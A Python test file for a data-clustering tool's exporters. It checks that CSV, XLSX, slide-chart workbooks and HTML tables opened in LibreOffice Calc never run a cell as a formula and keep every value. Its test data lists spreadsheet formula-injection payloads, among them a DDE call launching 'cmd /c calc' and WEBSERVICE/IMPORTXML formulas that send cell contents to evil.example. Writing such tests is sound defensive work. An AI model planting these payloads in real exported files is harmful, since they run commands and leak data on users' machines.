"""Every file that is taken away, opened in LibreOffice Calc: no cell or header of it runs, and all values are there.

The table and the names of its segments hold what has made a spreadsheet run something, and what breaks out of a cell
where a program is told another separator than the file's. Excel itself is not tried: what it would run is taken from
its own rules, and its files are held to them by openpyxl.
"""

import csv
import io
import re
import zipfile

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from clustering import (
    ClusterSpec,
    FeatureSpec,
    apply_recipe,
    fit,
    label_table,
    make_recipe,
    prepare,
    read_table,
    to_csv,
)
from clustering.export import CampaignSpec, campaign, campaign_table, only_ids, per_segment_zip
from clustering.export.applied import applied_table
from clustering.export.findings import gather
from clustering.export.report import to_html
from clustering.export.slides import to_pptx
from clustering.export.workbook import to_xlsx
from clustering.identity import Identity
from clustering.profile.sheet import profile_sheet
from tests import hostile
from tests.office.calc import as_a_person_does, as_text
from tests.test_export import FORMULAS, HARMLESS, INSIDE, NOTHING_INSIDE

SEPARATORS = (",", ";", "\t", "|")
KINDS = ("comma", "semicolon", "tab", "bar")
MORE = (
    "sep=;",
    'x";=1+1;"',
    '"=1+1',
    '"";=1+1;""',
    "'=1+1",
    "''=1+1",
    "{=1+1}",
    '=DDE("cmd";"/c calc";"1")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/";A1);"//a")',
    '=HYPERLINK("http://evil.example","a")',
    "\ufeff\u200b =1+1",
    "x\r\n=1+1\r\n=2+2",
    "x\n\t=1+1",
    "\x1b=1+1",
    "of:=1+1",
    "http://evil.example",
    "#NAME?",
    "Err:509",
)
CELLS = tuple(
    dict.fromkeys(
        (*hostile.TEXTS, *FORMULAS, *HARMLESS, *(cell.replace("‸", "") for cell in INSIDE), *NOTHING_INSIDE, *MORE)
    )
)
NAMES = ("=1+1", "x,=1+1,y", '\n=HYPERLINK("http://evil.example")', " @SUM(A1)")
HEADERS = ("sep=;", "=id", "a,=1+1,b", "c\n=1+1;d", "\u200b=1+1", 'e";=1+1;"f', "+cmd|'/c calc'!A1", "amount")


@pytest.fixture(scope="module")
def table():
    """Every hostile text in every column of text; four crowds, told apart by the last column."""
    shifts = (0, 7, 19, 31, 43, 57)
    texts = [[CELLS[(i + shift) % len(CELLS)] for i in range(len(CELLS))] for shift in shifts]
    ids, amounts = ([f"=C{i}" for i in range(len(CELLS))], [100 * (i % 4) ** 2 + i % 5 for i in range(len(CELLS))])
    out = io.BytesIO()  # Parquet takes every character, and nothing about it is guessed
    pq.write_table(pa.table([texts[0], ids, *texts[1:], amounts], names=list(HEADERS)), out)
    return read_table(out.getvalue(), name="=1+1,=1.parquet")


@pytest.fixture(scope="module")
def found(table):
    features = prepare(table, FeatureSpec(("amount",)))
    return features, fit(features, ClusterSpec(n_clusters=4))


@pytest.fixture(scope="module")
def recipe(table, found):
    who = tuple(Identity(label, name, f"=note {name}") for label, name in enumerate(NAMES))
    return make_recipe(table, *found, title="=1+1", identities=who)


@pytest.fixture(scope="module")
def labelled(table, found):
    return label_table(table, found[1], NAMES)


@pytest.fixture(scope="module")
def findings(table, found, recipe):
    looks = tuple(Identity(label, name).look(label) for label, name in enumerate(NAMES))
    return gather(table, *found, recipe, looks=looks, notes=tuple(f"=note {name}" for name in NAMES))


@pytest.fixture(scope="module")
def lists(table, found, recipe, labelled, findings):
    """Every table that is written as CSV."""
    drawn = campaign(table, found[1], CampaignSpec((0, 1, 2, 3)), NAMES)
    return {
        "labelled": labelled,
        "ids": only_ids(labelled, table),
        "campaign": campaign_table(labelled, table, drawn),
        "applied": applied_table(table, apply_recipe(recipe, table)),
        "profile": profile_sheet(findings.comparison, NAMES),
    }


def delimited(lists, delimiter):
    files = {f"{name}.csv": to_csv(told, delimiter=delimiter).content for name, told in lists.items()}
    with zipfile.ZipFile(io.BytesIO(per_segment_zip(lists["labelled"], NAMES, delimiter=delimiter).content)) as archive:
        for i, name in enumerate(archive.namelist()):
            files[f"segment{i}.csv"] = archive.read(name)
    return files


def read(content, delimiter):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter, strict=True))


def as_calc_keeps(text):
    """A cell without what Calc keeps of none: NUL, and which of the signs of a line break it was."""
    return re.sub("\r\n|\r", "\n", text.replace("\x00", ""))


def all_as_calc_keeps(rows):
    return [[as_calc_keeps(cell) for cell in row] for row in rows]


# --- delimited text ---


@pytest.mark.parametrize(
    ("cell", "opened"),
    [("=1+1", ";"), ('=HYPERLINK("x")', ";"), ("\x00=1+1", ";"), ("x,=1+1,y", ","), ("x\n=1+1", ",")],
)
def test_without_the_apostrophe_such_a_cell_would_run(calc, cell, opened):
    quoted = '"' + cell.replace('"', '""') + '"'
    content = f"a;b\r\nx;{quoted}\r\n".encode()
    assert calc.formulas({"plain.csv": content}, as_a_person_does(opened))["plain"]


@pytest.mark.parametrize("opened", [*SEPARATORS, ",;\t"], ids=[*KINDS, "three at once"])
def test_no_cell_of_a_list_runs_whatever_separator_it_is_opened_with(calc, lists, opened):
    files = {
        f"{kind}_{name}": content
        for kind, written in zip(KINDS, SEPARATORS, strict=True)
        for name, content in delimited(lists, written).items()
    }
    found = calc.formulas(files, as_a_person_does(*opened))
    assert len(found) == len(files) == 36
    assert {name: formulas for name, formulas in found.items() if formulas} == {}


@pytest.mark.parametrize("written", SEPARATORS, ids=KINDS)
def test_every_value_of_a_list_is_there(calc, table, lists, written):
    content = to_csv(lists["labelled"], delimiter=written).content
    told = calc.cells({"labelled.csv": content}, as_text(written, len(HEADERS) + 3))["labelled"]
    ours = read(content, written)
    assert all_as_calc_keeps(told) == all_as_calc_keeps(ours)
    stood = [list(table.headers), *(list(row.values()) for row in table.text.to_pylist())]
    for row, before in zip(ours, stood, strict=True):
        for cell, original in zip(row, before, strict=False):
            assert cell.replace("'", "") == original.replace("'", "")


# --- documents ---


@pytest.fixture(scope="module")
def workbook(findings, labelled):
    return to_xlsx(findings, labelled)


@pytest.fixture(scope="module")
def of_slides(findings):
    """The workbooks behind the charts of the slides."""
    with zipfile.ZipFile(io.BytesIO(to_pptx(findings))) as archive:
        inside = [name for name in archive.namelist() if name.endswith(".xlsx")]
        return {f"chart{i}.xlsx": archive.read(name) for i, name in enumerate(inside)}


def test_no_cell_of_the_workbook_runs(calc, workbook):
    assert calc.formulas({"book.xlsx": workbook}) == {"book": []}
    assert not formulas_by_openpyxl(workbook)


def test_no_cell_of_a_workbook_behind_a_slide_runs(calc, of_slides):
    assert len(of_slides) >= 2
    assert calc.formulas(of_slides) == {name.removesuffix(".xlsx"): [] for name in of_slides}
    assert not [name for name, content in of_slides.items() if formulas_by_openpyxl(content)]


def formulas_by_openpyxl(content):
    """What Excel would take for a formula or a link."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells
    return [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]


def test_every_value_of_the_workbook_is_there(calc, table, workbook):
    told = calc.cells({"book.xlsx": workbook})["book"]
    n = len(HEADERS) - 1  # the last column holds numbers
    ours = [list(table.headers), *(list(row.values()) for row in table.text.to_pylist())]
    assert all_as_calc_keeps(row[:n] for row in told) == all_as_calc_keeps(row[:n] for row in ours)


def test_no_cell_of_a_table_of_the_report_runs(calc, findings):
    content = to_html(findings)
    content = content if isinstance(content, bytes) else content.encode()
    assert calc.formulas({"report.html": content}, "HTML (StarCalc)") == {"report": []}
